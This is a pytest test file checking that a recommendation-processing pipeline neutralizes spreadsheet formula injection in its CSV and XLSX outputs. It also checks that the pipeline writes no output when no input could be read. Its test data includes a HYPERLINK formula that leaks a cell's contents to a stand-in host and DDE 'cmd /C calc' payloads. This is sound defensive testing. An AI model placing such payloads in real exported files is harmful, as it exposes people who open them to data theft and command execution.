"""Spreadsheet-safe outputs: text a spreadsheet would run as a formula is written as text, read back from the files.

Covers every CSV/XLSX the project writes: `recs assign` (.csv, .xlsx), the `--csv` copies of the stages,
and the plot CSVs behind `dvc plots`. Also: `recs assign` writes nothing when no input succeeded.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from pipeline.cli import app
from pipeline.report.plots import write_plot_csvs
from pipeline.spreadsheet import CSV_ESCAPE, FORMULA_TRIGGERS, csv_cell
from tests.modeling_fixtures import assign, reference_options, run, runner, workspace

# Recommendation-like texts opening with each character that makes a spreadsheet evaluate a cell.
HOSTILE = {
    "equals": '=HYPERLINK("http://example.invalid/?leak="&A1,"States parties should click here")',
    "plus": "+1 States parties should increase funding for victim shelters by one per cent each year.",
    "minus": "-1+2 States parties should reduce the backlog of trafficking cases before the courts.",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0 States parties should train labour inspectors.",
    "tab": "\t=1+1 States parties should ensure that victims receive legal aid free of charge.",
    "return": "\r=1+1 States parties should ensure that victims receive interpretation in their own language.",
}
SAFE = "States parties should consider granting residence permits to victims of trafficking."


def test_csv_cell_escapes_each_trigger_and_nothing_else() -> None:
    for text in HOSTILE.values():
        assert csv_cell(text) == CSV_ESCAPE + text
    assert {text[0] for text in HOSTILE.values()} == set(FORMULA_TRIGGERS)
    assert csv_cell(SAFE) == SAFE and csv_cell("1 = 1") == "1 = 1"
    assert csv_cell(-3) == -3 and csv_cell(0.25) == 0.25 and csv_cell(None) is None  # numbers stay numbers


@pytest.fixture(scope="module")
def ws() -> Path:
    return workspace()


@pytest.fixture(scope="module")
def hostile_table(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A user's table whose ids and texts open with formula triggers (the ids reach the output verbatim)."""
    path = tmp_path_factory.mktemp("hostile") / "hostile.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:  # the csv module quotes a field holding "\r"
        writer = csv.writer(handle)
        writer.writerow(["id", "text"])
        writer.writerows([HOSTILE[key][:1] + key, text] for key, text in HOSTILE.items())
        writer.writerow(["safe", SAFE])
    return path


def _formula_like_cells(values: list[str]) -> list[str]:
    return [value for value in values if value.startswith(FORMULA_TRIGGERS)]


def test_assign_xlsx_stores_formula_like_text_as_string_cells(ws: Path, hostile_table: Path, tmp_path: Path) -> None:
    out = tmp_path / "assigned.xlsx"
    assign(ws, hostile_table, "--out", out)
    sheet = load_workbook(out)["assigned"]
    header = [cell.value for cell in sheet[1]]
    rows = list(sheet.iter_rows(min_row=2))
    texts = {row[header.index("id")].value: row[header.index("text")] for row in rows}
    hostile_cells = [
        cell for row in rows for cell in row if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS)
    ]
    assert {cell.value[0] for cell in hostile_cells} == set(FORMULA_TRIGGERS), [c.value for c in hostile_cells]
    assert all(cell.data_type == "s" for cell in hostile_cells)  # stored as text: a spreadsheet shows it, never runs it
    assert not [cell.coordinate for row in rows for cell in row if cell.data_type == "f"]
    assert {key: texts[HOSTILE[key][:1] + key].value for key in HOSTILE} == HOSTILE  # the text itself, unchanged
    assert texts["safe"].value == SAFE


def test_assign_csv_neutralizes_formula_like_fields(ws: Path, hostile_table: Path, tmp_path: Path) -> None:
    out = tmp_path / "assigned.csv"
    assign(ws, hostile_table, "--out", out)
    with open(out, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    fields = [value for row in rows for value in row.values()]
    assert not _formula_like_cells(fields), _formula_like_cells(fields)
    by_id = {row["id"]: row for row in rows}
    assert {key: by_id[CSV_ESCAPE + HOSTILE[key][:1] + key]["text"] for key in HOSTILE} == {
        key: CSV_ESCAPE + text for key, text in HOSTILE.items()
    }  # every trigger, the carriage return too
    assert by_id["safe"]["text"] == SAFE
    assert any(row["probability"] and float(row["probability"]) > 0 for row in rows)  # numbers are still numbers


def test_stage_csv_copies_neutralize_formula_like_text(tmp_path: Path) -> None:
    report = tmp_path / "hostile.txt"
    report.write_text(HOSTILE["equals"] + "\n\n" + SAFE + "\n", encoding="utf-8")
    run("ingest", report, "--out", tmp_path / "documents.parquet", "--csv")
    documents = pd.read_parquet(tmp_path / "documents.parquet")
    assert documents.text.str.startswith("=HYPERLINK").any()  # the hostile text really reaches the table
    with open(tmp_path / "documents.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    fields = [value for row in rows for value in row.values()]
    assert not _formula_like_cells(fields)
    assert any(value.startswith(CSV_ESCAPE + "=HYPERLINK") for value in fields)


def test_plot_csvs_neutralize_formula_like_labels(tmp_path: Path) -> None:
    write_plot_csvs({"cluster_sizes": [("=cmd|' /C calc'!A0", 4), ("C02 victims", 3)]}, tmp_path)
    with open(tmp_path / "cluster_sizes.csv", encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows == [["cluster", "recommendations"], ["'=cmd|' /C calc'!A0", "4"], ["C02 victims", "3"]]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".parquet"])
def test_assign_writes_nothing_when_no_input_succeeded(ws: Path, tmp_path: Path, suffix: str) -> None:
    no_text = tmp_path / "notes.csv"
    no_text.write_text("id,body\n1,States parties should act.\n", encoding="utf-8")
    missing = tmp_path / "missing.txt"
    out = tmp_path / f"assigned{suffix}"
    common = ["--out", str(out), *reference_options(ws)]
    for keep_going in ([], ["--keep-going"]):
        result = runner.invoke(app, ["assign", str(no_text), str(missing), *common, *keep_going])
        assert result.exit_code == 1, result.output
        assert "none of the 2 input(s) could be read; nothing written" in result.output
        assert not out.exists()
    assert sorted(path.name for path in tmp_path.iterdir()) == ["notes.csv"]  # no temporary file left behind
    out.write_bytes(b"an earlier run's output")
    assert runner.invoke(app, ["assign", str(no_text), *common]).exit_code == 1
    assert out.read_bytes() == b"an earlier run's output"  # an older output is not replaced by an empty one
